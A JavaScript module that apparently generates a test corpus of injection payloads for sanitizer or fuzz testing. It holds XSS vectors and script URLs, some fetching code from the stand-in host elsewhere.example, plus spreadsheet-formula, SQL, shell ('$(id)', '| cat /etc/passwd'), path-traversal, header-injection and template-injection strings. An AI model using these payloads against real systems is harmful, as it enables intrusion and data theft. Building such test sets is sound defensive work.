// What strangers may write to have it run: every element and handler in every wrapping that may break out of where a text
// stands, addresses that are scripts, and what other programs take for commands. Each would leave a mark on the page, or ask
// another house for something.

const mark = (n) => `document.documentElement.dataset.owned=${n}`;

/** Elements that run something by themselves, once they are elements. */
const ELEMENTS = [
  (n) => `<script>${mark(n)}</script>`,
  (n) => `<script src=//elsewhere.example/${n}.js></script>`,
  (n) => `<img src=x onerror=${mark(n)}>`,
  (n) => `<image src=x onerror=${mark(n)}>`,
  (n) => `<svg onload=${mark(n)}>`,
  (n) => `<svg><script>${mark(n)}</script></svg>`,
  (n) => `<svg><animate onbegin=${mark(n)} attributeName=x dur=1s>`,
  (n) => `<svg><a xlink:href="javascript:${mark(n)}"><text y=9>x</text></a></svg>`,
  (n) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${mark(n)}>`,
  (n) => `<body onload=${mark(n)}>`,
  (n) => `<video src=x onerror=${mark(n)}>`,
  (n) => `<video><source onerror=${mark(n)}></video>`,
  (n) => `<audio src=x onerror=${mark(n)}>`,
  (n) => `<details open ontoggle=${mark(n)}>`,
  (n) => `<input autofocus onfocus=${mark(n)}>`,
  (n) => `<select autofocus onfocus=${mark(n)}>`,
  (n) => `<textarea autofocus onfocus=${mark(n)}>`,
  (n) => `<marquee onstart=${mark(n)}>x</marquee>`,
  (n) => `<iframe src="javascript:parent.${mark(n)}"></iframe>`,
  (n) => `<iframe srcdoc="<script>parent.${mark(n)}</script>"></iframe>`,
  (n) => `<object data="javascript:${mark(n)}"></object>`,
  (n) => `<embed src="//elsewhere.example/${n}">`,
  (n) => `<link rel=stylesheet href=//elsewhere.example/${n}.css>`,
  (n) => `<style>@import "//elsewhere.example/${n}.css";</style>`,
  (n) => `<p style="background:url(//elsewhere.example/${n})">x</p>`,
  (n) => `<meta http-equiv=refresh content="0;url=//elsewhere.example/${n}">`,
  (n) => `<base href="//elsewhere.example/${n}/">`,
  (n) => `<form action=//elsewhere.example/${n}><button autofocus>x</button></form>`,
  (n) => `<b hx-get="/logout" hx-trigger="load" data-x=${n}>x</b>`,
  (n) => `<b hx-on:htmx:load="${mark(n)}" hx-on::load="${mark(n)}">x</b>`,
];

/** Ways out of where a text may stand: an attribute, an element that holds text, a comment, a string of a script. */
const WRAPPINGS = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</title></textarea></style></script></template></noscript>${text}`,
  (text) => `--><!-->${text}`,
  (text) => `]]>${text}`,
  (text) => text.replaceAll("<", "<\u0009").replace(/^<\t/, "<"),
  (text) => text.replace(/^<([a-z]+)/, (_, name) => `<${name.toUpperCase()}/x/`),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (text) => `\\u003c${text.slice(1)}`,
];

/** Addresses that are scripts, as browsers read them. */
const ADDRESSES = (n) => [
  `javascript:${mark(n)}`, `JaVaScRiPt:${mark(n)}`, `\u0001javascript:${mark(n)}`, ` javascript:${mark(n)}`, `java\tscript:${mark(n)}`, `java\nscript:${mark(n)}`,
  `javascript&colon;${mark(n)}`, `javascript:\u2028${mark(n)}`, `vbscript:${mark(n)}`, `data:text/html,<script>parent.${mark(n)}</script>`, `data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+`,
  `//elsewhere.example/${n}`, `https:elsewhere.example/${n}`, `\\\\elsewhere.example\\${n}`, `feed:javascript:${mark(n)}`, `blob:null/${n}`,
];

/** Commands of spreadsheets, templates, shells, databases and headers. */
const COMMANDS = [
  "=HYPERLINK(\"//elsewhere.example/x\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('1')()}}", "%{7*7}",
  "'; DROP TABLE customers; --", "\" OR \"\"=\"", "1' OR '1'='1", "%' ESCAPE '!", "a NEAR b AND (c", "\"unclosed", "$(id)", "`id`", "; ls -l", "| cat /etc/passwd", "../../../../etc/passwd", "..\\..\\windows\\win.ini",
  "x\r\nSet-Cookie: owned=1", "x%0d%0aLocation: //elsewhere.example", "\u202egpj.exe", "\u2066left\u2069", "\ufeffbom", "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301", "𝕊𝕔𝕣𝕚𝕡𝕥", "&#0;&#x10ffff;&notit;", "\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67", "null", "undefined", "NaN", "__proto__", "constructor", "-1e999", "1e308",
];

/** Four hundred and more, each another text; none longer than 180 characters. */
export const PAYLOADS = [...new Set([
  ...WRAPPINGS.flatMap((wrap, w) => ELEMENTS.map((element, e) => wrap(element(w * ELEMENTS.length + e + 1)))),
  ...ADDRESSES(9001),
  ...COMMANDS,
])].map((text) => text.slice(0, 180));
